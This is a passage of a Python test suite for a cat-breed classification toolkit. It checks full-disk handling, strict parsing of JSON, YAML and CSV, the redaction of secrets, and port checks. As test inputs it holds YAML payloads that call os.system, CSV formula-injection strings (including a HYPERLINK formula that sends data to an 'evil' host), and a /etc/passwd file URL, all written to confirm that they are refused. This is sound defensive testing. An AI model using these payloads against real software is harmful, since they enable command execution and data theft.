    subprocess.run([sys.executable, "-c", code, str(tmp_path / ".out.jsonl.lock")], check=False)
    assert len(run(photos, out).predictions) == 5


# 8: a full disk


@contextmanager
def room(size: int):
    """Files may grow to `size` bytes and no further, as on a full disk."""
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)


@pytest.mark.parametrize("kept", range(300, 900, 60))
def test_predictions_that_find_no_room_keep_whole_lines(photos, tmp_path, kept):
    out = tmp_path / "out.jsonl"
    whole = run(photos, out)
    size, said = len(out.read_bytes()), len(meta_path(out).read_bytes())
    out.write_bytes(b"")
    with room(max(kept, said)):
        if size > max(kept, said):
            with pytest.raises(CatlibError, match="out.jsonl: cannot be written"):
                run(photos, out)
            assert out.read_bytes() == b"" or out.read_bytes().endswith(b"\n")
    again = run(photos, out)
    assert [(p.id, p.predicted) for p in again.predictions] == [(p.id, p.predicted) for p in whole.predictions]


@pytest.mark.parametrize("size", [0, 1, 10, 100, 4096])
def test_what_finds_no_room_leaves_what_was_there(tmp_path, size):
    path = tmp_path / "file.json"
    write_text(path, "former")
    with room(size), pytest.raises(CatlibError, match="file.json: cannot be written"):
        write_text(path, "x" * 5000)
    assert path.read_text() == "former" and list(tmp_path.iterdir()) == [path]
    with appending(path) as add:
        add("\n")
    with room(size + 7), pytest.raises(CatlibError, match="file.json: cannot be written"), appending(path) as add:
        add("x" * 5000 + "\n")
    assert path.read_text() == "former\n"


@pytest.mark.parametrize(
    "error",
    [
        OSError(errno.ENOSPC, os.strerror(errno.ENOSPC)),
        OSError(errno.EDQUOT, os.strerror(errno.EDQUOT)),
        OSError(errno.EROFS, os.strerror(errno.EROFS)),
        PermissionError(errno.EACCES, os.strerror(errno.EACCES)),
        RuntimeError("[enforce fail at inline_container.cc] . No space left on device"),
        Exception("No space left on device (os error 28)"),
        ValueError("I/O error: No space left on device"),
    ],
)
def test_each_librarys_error_of_a_full_disk_names_the_file(tmp_path, error):
    with pytest.raises(CatlibError, match="weights: cannot be written") as caught, saving(tmp_path / "weights"):
        raise error
    assert caught.value.exit_code == 1
    with pytest.raises(ZeroDivisionError), saving(tmp_path / "weights"):
        raise ZeroDivisionError


def test_an_export_that_finds_no_room_leaves_the_former(tmp_path):
    with whole_folder(tmp_path / "out", False) as folder:
        (folder / "weights").write_text("former")
    with pytest.raises(CatlibError, match="out: cannot be written"), whole_folder(tmp_path / "out", True) as folder:
        raise RuntimeError("No space left on device")
    assert [path.name for path in tmp_path.iterdir()] == ["out"]
    assert (tmp_path / "out" / "weights").read_text() == "former"


def spoken(*words) -> tuple[int, str]:
    """Exit code and standard error of a command; what it prints goes to memory, as pytest's own files have no room either."""
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main([str(word) for word in words])
    logging.basicConfig(force=True)
    return code, err.getvalue()


def contents(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


@pytest.fixture(scope="module")
def commands(place, tmp_path_factory):
    """The words of each command that writes, up to its output."""
    data = write_dataset(tmp_path_factory.mktemp("full") / "data")
    fill(data.parent / "breeds", {"Manx": 12, "Persian": 12})
    sets = [str(write_set(make_set("vlm", truth(3), truth(3)), data.parent / "sets"))]
    paths = ("--base_model", place / "llava", "--train_data", data / "train.jsonl", "--val_data", data / "val.jsonl")
    small = ("--lora_r", 4, "--epochs", 1, "--batch_size", 4, "--gradient_accumulation", 1, "--dtype", "float32")
    cell = new_code_cell("1", execution_count=1, outputs=[new_output("stream", text="a line\n" * 2000)])
    book = data.parent / "book.ipynb"
    nbformat.write(new_notebook(cells=[cell]), book)
    return {
        "data": ("data", data.parent / "breeds", "--min-side", 16, "--out"),
        "train": ("train", *paths, *small, "--device", "cpu", "--num_workers", 0, "--watch_photos", 0, "--output_dir"),
        "predict": ("predict", "--checkpoint", place / "tuned", place / "photos", "--device", "cpu", "--out"),
        "evaluate": ("evaluate", "--bootstrap", 100, "--predictions", *sets, "--out"),
        "export": ("export", "merge", "--checkpoint", place / "tuned", "--device", "cpu", "--force", "--out"),
        "render": ("render", book, "--out"),
    }


NAMES = {"predict": "p.jsonl", "evaluate": "m.json", "render": "p.html"}


@pytest.mark.long
@pytest.mark.slow
@pytest.mark.parametrize("kept", [0.0, 0.1, 0.5, 0.9])
@pytest.mark.parametrize("name", ["data", "train", "predict", "evaluate", "export", "render"])
def test_a_command_that_finds_no_room_says_where_and_leaves_what_was_there(commands, tmp_path, monkeypatch, name, kept):
    """`kept`: the room for each file, as a share of the largest that the command writes."""
    monkeypatch.setenv("CATLIB_ROOT", str(tmp_path))
    monkeypatch.setenv("TQDM_DISABLE", "1")
    whole, out = (tmp_path / folder / NAMES.get(name, "x") for folder in ("whole", "out"))
    assert spoken(*commands[name], whole)[0] == 0
    shutil.rmtree(tmp_path / "outputs", ignore_errors=True)  # the feature cache
    largest = max(map(len, contents(whole.parent).values()))
    with room(int(kept * largest)):
        code, said = spoken(*commands[name], out)
    assert code == 1 and re.search(rf"{re.escape(str(tmp_path))}.*: cannot be written: ", said), said
    assert "Traceback" not in said and "--debug" not in said
    assert not [path for path in out.parent.rglob(".*") if "writing-" in path.name]
    assert spoken(*commands[name], out)[0] == 0
    before = contents(out.parent)
    with room(int(kept * largest)):
        spoken(*commands[name], out)  # where all is there already there may be nothing to write
    after = contents(out.parent)
    assert before.keys() <= after.keys()
    if name in ("evaluate", "export", "data", "render"):  # a hidden file says how far an audit came

        def shown(files: dict[str, bytes]) -> dict[str, bytes]:
            return {key: value for key, value in files.items() if not Path(key).name.startswith(".")}

        assert shown(after) == shown(before)


def test_a_full_cache_disk_does_not_end_a_training(commands, tmp_path, monkeypatch):
    from catlib.vlm import features

    def full(*_, **__):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setenv("CATLIB_ROOT", str(tmp_path))
    assert spoken(*commands["train"], tmp_path / "a")[0] == 0
    shutil.rmtree(tmp_path / "outputs")
    monkeypatch.setattr(features, "save_file", full)
    code, said = spoken(*commands["train"], tmp_path / "b")
    assert code == 0 and "cannot be written" in said
    one, other = (load_file(tmp_path / run / "adapter_model.safetensors") for run in "ab")
    assert all(torch.allclose(one[key], other[key], atol=1e-5) for key in one)


# 10: strict readers


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('{"a": NaN}', "key 'a': NaN"),
        ('{"a": -Infinity}', "key 'a': -Infinity"),
        ('{"x": {"a": [1, [NaN]]}}', "key 'a': NaN"),
        ('{"b": NaN, "c": {"d": 1}}', "key 'b': NaN"),
        ("NaN", "NaN"),
        ("[1, Infinity]", "Infinity"),
        ('{"a": 1e999}', "key 'a': Infinity"),
        ('{"a": -1E+400}', "key 'a'"),
        (f'{{"a": {"9" * 400}.0}}', "key 'a'"),
        (f'{{"a": {"9" * 5000}}}', "key 'a'"),
        ('{"a": 1, "a": 2}', "'a' stands twice"),
        ('{"x": [{"a": 1, "b": 0, "a": 1}]}', "'a' stands twice"),
        ("[" * 100_000, "nested too deeply"),
        ('{"a":' * 100_000, "nested too deeply"),
        ("{'a': 1}", "not JSON"),
        ('{"a": 1,}', "not JSON"),
        ('{"a": 01}', "not JSON"),
        ('{"a": "\x01"}', "not JSON"),
        ("", "not JSON"),
        ('{"a": 1} {"b": 2}', "not JSON"),
    ],
)
def test_json_is_read_strictly(tmp_path, text, said):
    for kind in (dict, object):
        with pytest.raises(InputError, match=r"^where: .*") as caught:
            parse_json(text, "where", kind)
        assert said in str(caught.value)
    path = tmp_path / "x.jsonl"
    path.write_text(f'{{"fine": 1}}\n{text or "{"}\n', encoding="utf-8")
    with pytest.raises(InputError, match=r"x.jsonl:2: "):
        list(read_jsonl(path))


def test_large_numbers_that_are_numbers_are_read():
    assert parse_json('{"a": 1e308, "b": 1e-999, "c": [1.5e100]}', "x") == {"a": 1e308, "b": 0.0, "c": [1.5e100]}
    assert parse_json('{"a": "NaN 1e999"}', "x") == {"a": "NaN 1e999"}


@pytest.mark.slow
@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("lr: 1\nlr: 2\n", "line 2: the key 'lr' stands twice"),
        ("lr: 1\n'lr': 2\n", "'lr' stands twice"),
        ("{lr: 1, lr: 2}", "'lr' stands twice"),
        ("trainer_args: {a: 1, a: 2}", "'a' stands twice"),
        ("lr: .nan", "key 'lr'"),
        ("lr: -.inf", "key 'lr'"),
        ("lr: .INF", "key 'lr'"),
        ("lr: nan", "lr"),
        ("lr: inf", "lr"),
        ("lr: 1e999", "lr"),
        ("trainer_args: [.nan]", "key 'trainer_args'"),
        ("a: &a [x]\nb: *a\n", "alias"),
        ("a: &a {k: &b [x, x]}\nc: [*b, *b]\n", "alias"),
        ("lr: !!python/object/apply:os.system ['touch pwned']", "python/object"),
        ("lr: !!python/name:os.system", "python/name"),
        ("run: 2001-99-99", "not YAML"),
        ("[" * 1500, "nested too deeply"),
        ("lr: [", "not YAML"),
        ("- a\n- b\n", "key: value"),
        ("just text", "key: value"),
        ("", "key: value"),
        ("lr: 1\n\tseed: 2", "not YAML"),
        ("unknown: 1", "unknown"),
        ("seed: 1.5", "seed"),
        ("lr: " + "9" * 400, "lr"),
        ("seed: " + "9" * 5000, "p.yaml"),
        ("? [a, b]\n: 1", "p.yaml"),
        ("seed: 1\x00", "not YAML"),
    ],
)
def test_a_profile_is_read_strictly(tmp_path, monkeypatch, capsys, text, said):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "p.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InputError, match="p.yaml") as caught:
        read_profile(path)
    assert said in str(caught.value) and not (tmp_path / "pwned").exists()
    assert main(["memory", "--profile", str(path)]) == 2
    assert "p.yaml" in capsys.readouterr().err


@pytest.mark.parametrize("data", [b"lr: \xff\xfe", b"\x80\x04\x95", "seed: 1".encode("utf-16")])
def test_a_profile_that_is_no_text_is_refused(tmp_path, data):
    (tmp_path / "p.yaml").write_bytes(data)
    with pytest.raises(InputError, match="p.yaml"):
        read_profile(tmp_path / "p.yaml")


@pytest.mark.parametrize(
    "text", ["lr=nan", "lr=.nan", "lr=inf", "lr=-Infinity", "lr=1e999", "seed=1.5", "seed=.inf", "lr=" + "9" * 5000]
)
def test_a_number_on_the_command_line_is_one(text):
    with pytest.raises(InputError, match=text[:2]):
        parse_assignment(text)


def test_further_options_are_read_strictly():
    for text in (
        "{optim: a, optim: b}",
        "{lr_scheduler_kwargs: {a: .nan}}",
        "[",
        "{max_grad_norm: !!python/name:os.system}",
    ):
        with pytest.raises(InputError, match="trainer_args"):
            further_options(text)


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    '=HYPERLINK("http://evil/?"&A1)',
    "'=1",
    "''=1",
    "'plain",
    "plain",
    "",
    'a "quoted", text',
    "two\nlines",
    "-",
    "ä=1",
]


def test_a_cell_is_no_formula_and_is_read_as_it_was_written(tmp_path):
    path = tmp_path / "audit.csv"
    write_text(path, csv_text(("file", "breed"), ([text, text[::-1]] for text in FORMULAS)))
    import csv

    with path.open(encoding="utf-8", newline="") as stream:
        shown = [cell for row in csv.reader(stream) for cell in row]
    assert not [cell for cell in shown if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    columns, rows = read_csv(path)
    assert columns == ["file", "breed"] and [row["file"] for row in rows] == FORMULAS
    findings = [Finding(f"{text or 'x'}.jpg", text, detail=text, width=-1) for text in FORMULAS]
    write_audit(path, findings)
    assert read_audit(path) == findings


@pytest.mark.parametrize(
    "text", ["a,a\n1,2\n", "a,b\n1\n", "a,b\n1,2,3\n", 'a,b\n"1,2\n', 'a,b\n"1"x,2\n', "a,b\n" + "x" * 200_000 + ",1\n"]
)
def test_a_table_that_is_none_is_refused(tmp_path, text):
    (tmp_path / "t.csv").write_text(text)
    with pytest.raises(InputError, match="t.csv"):
        read_csv(tmp_path / "t.csv")
    with pytest.raises(InputError, match="t.csv"):
        read_audit(tmp_path / "t.csv")


def test_no_file_is_parsed_beside_the_strict_readers():
    """Of catlib's own data alone: the table of breeds in the package, and what it has just written itself."""
    allowed = {
        "catlib/breeds.py": "yaml.safe_load",
        "catlib/reports/photos.py": "json.loads",
        "catlib/vlm/trial.py": "json.load",
        "catlib/classifiers/predict.py": "json.loads",
    }
    for path in SOURCES:
        name = path.relative_to(ROOT).as_posix()
        for call in calls(path):
            func = ast.unparse(call.func)
            if name.startswith("catlib/") and name not in ("catlib/files.py", "catlib/data/sheets.py"):
                parsed = func in (
                    "json.load",
                    "json.loads",
                    "yaml.safe_load",
                    "yaml.load",
                    "csv.reader",
                    "csv.DictReader",
                )
                assert not parsed or allowed.get(name) == func, f"{name}:{call.lineno}: {func}"
                assert not func.endswith(("response.json", "reply.json")), f"{name}:{call.lineno}: {func}"


# 13: secrets

SECRET = "hunter2"
URLS = [
    f"http://user:{SECRET}@host:8000/v1",
    f"https://{SECRET}@host/v1",
    f"http://:{SECRET}@host/v1#cats",
    f"http://host/v1?key={SECRET}",
    f"http://host/v1?api_key={SECRET}#cats",
    f"http://host:8000?{SECRET}",
    f"user:{SECRET}@host/v1",
    f"//user:{SECRET}@host",
    f"http://user:{SECRET}@[::1]:8000/v1",
    f"http://user:{SECRET}@[::1/v1",
    f"ftp://user:{SECRET}@host",
    f"  http://user:{SECRET}@host/v1 ",
    f"http://user%40x:{SECRET}@host:99999999/v1",
    f"HTTP://USER:{SECRET}@HOST/v1",
]


@pytest.mark.parametrize("url", URLS)
def test_a_secret_in_a_url_is_refused_and_not_repeated(tmp_path, capsys, url):
    def refused(work):
        with pytest.raises(InputError) as caught:
            work()
        assert SECRET not in str(caught.value)
        return str(caught.value)

    assert "CATLIB_API_KEY" in refused(lambda: EndpointClassifier(url, BREEDS, "?", tries=1))
    for name in ("vllm_url", "llamacpp_url"):
        assert name in refused(lambda name=name: ServingSettings.build({name: url}))
        assert name in refused(lambda name=name: parse_assignment(f"{name}={url}"))
    (tmp_path / "p.yaml").write_text(f"vllm_url: {json.dumps(url)}\n")
    assert "p.yaml" in refused(lambda: read_profile(tmp_path / "p.yaml"))
    assert main(["report", str(tmp_path / "p.yaml"), "--run", "hostile"]) == 2
    assert main(["report", "demo", "--run", "hostile", "-p", f"vllm_url={url}"]) == 2
    assert main(["predict", "--model", f"endpoint:{url}", str(Path(__file__))]) == 2
    said = capsys.readouterr()
    assert SECRET not in said.out + said.err and not (ROOT / "outputs" / "runs" / "hostile").exists()


@pytest.mark.parametrize("name", ["base_model", "clip_model", "checkpoint", "test_data"])
def test_no_setting_carries_a_password(name):
    with pytest.raises(InputError) as caught:
        EvaluationSettings.build({name: URLS[0]}) if name != "clip_model" else ServingSettings.build({name: URLS[0]})
    assert name in str(caught.value) and SECRET not in str(caught.value)


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1:8000/v1", "https://host/v1#org/model@main", "http://[::1]:8000/v1", "http://h/v1#a?b"]
)
def test_a_url_without_a_secret_passes(url):
    assert public_url(url, "x") == ServingSettings.build({"vllm_url": url}).vllm_url == url
    assert TrainSettings.build({"prompt": "see http://x/y? me@home"} if "prompt" in TrainSettings.names() else {})


@pytest.mark.parametrize(
    "url", ["", "host:8000", "ftp://host/v1", "http://", "file:///etc/passwd", "http://host:port/v1", "http://[::1/v1"]
)
def test_what_is_no_url_is_refused(url):
    with pytest.raises(InputError, match="expected http"):
        public_url(url, "x")


def test_other_programs_words_are_logged_without_passwords():
    said = without_secrets(
        f"cannot reach postgresql://me:{SECRET}@db:5432/mlflow or https://{SECRET}@host/x, see a@b.c"
    )
    assert said == "cannot reach postgresql://***@db:5432/mlflow or https://***@host/x, see a@b.c"


def test_a_server_that_repeats_the_key_is_not_quoted(monkeypatch):
    import httpx

    from catlib.classifiers import endpoint

    monkeypatch.setenv("CATLIB_API_KEY", SECRET)
    replies = [
        httpx.Response(401, json={"error": {"message": f"no such key: {SECRET}"}}),
        httpx.Response(401, text=f"<html>{SECRET}</html>"),
        httpx.Response(200, text=f"no JSON {SECRET}"),
        httpx.Response(200, text=f'{{"data": "{SECRET}", "data": 1}}'),
        httpx.Response(200, json={"data": [{"id": f"a{SECRET}"}, {"id": "b"}]}),
        httpx.Response(200, json={SECRET: 1}),
        httpx.Response(200, text='{"data": NaN}'),
        httpx.Response(200, text="[" * 100_000),
    ]
    for reply in replies:

        def answer(_: httpx.Request, reply: httpx.Response = reply) -> httpx.Response:
            return httpx.Response(reply.status_code, stream=httpx.ByteStream(reply.content))

        transport = httpx.MockTransport(answer)
        monkeypatch.setattr(
            httpx,
            "AsyncClient",
            lambda *_, transport=transport, real=httpx.AsyncClient, **__: real(transport=transport),
        )
        with pytest.raises(CatlibError) as caught:
            endpoint.EndpointClassifier("http://host/v1", BREEDS, "?", tries=1)
        assert SECRET not in str(caught.value) and "ConnectError" not in str(caught.value)
        monkeypatch.undo()
        monkeypatch.setenv("CATLIB_API_KEY", SECRET)


@pytest.mark.parametrize(
    "extra", [("--api-key", SECRET), (f"--api-key={SECRET}",), ("-v", "--hf-token", SECRET, "--seed", "1")]
)
def test_a_printed_command_shows_no_key(extra):
    command = Command("vllm", ("python", "serve", *extra), "cats", "127.0.0.1", 1)
    assert SECRET not in str(command) and "***" in str(command) and SECRET in " ".join(command.arguments)


# 14: ports


def serve(port: int, host: str = "127.0.0.1") -> Command:
    return Command("vllm", (), "cats", host, port)


@pytest.mark.parametrize("held", ["127.0.0.1", "0.0.0.0"])
@pytest.mark.parametrize("wanted", ["127.0.0.1", "0.0.0.0", "localhost"])
@pytest.mark.parametrize("listening", [True, False])
def test_a_held_port_is_told(held, wanted, listening):
    with socket.socket() as other:
        other.bind((held, 0))
        if listening:
            other.listen()
        with pytest.raises(InputError, match=r"port \d+ on .* is taken.*--port"):
            refuse_taken_port(serve(other.getsockname()[1], wanted))


def test_a_free_port_is_taken_and_a_foreign_address_refused():
    refuse_taken_port(serve(free_port()))
    refuse_taken_port(serve(free_port(), "0.0.0.0"))
    for host in ("192.0.2.1", "no.such.host.invalid", "999.1.1.1"):
        with pytest.raises(InputError, match="cannot listen"):
            refuse_taken_port(serve(free_port(), host))


@pytest.mark.parametrize("extra", [["--host", "0.0.0.0"], ["--host=0.0.0.0"], ["--port", "9000"], ["--port=9000"]])
def test_an_engine_is_not_told_another_address_behind_catlibs_back(place, capsys, extra):
    command = ["serve", "--engine", "vllm", "--model", str(place / "llava"), "--print", "--", *extra]
    assert main(command) == 2
    assert extra[0].partition("=")[0] in capsys.readouterr().err
    assert main([*command[: -len(extra) - 1], "--host", ""]) == 2
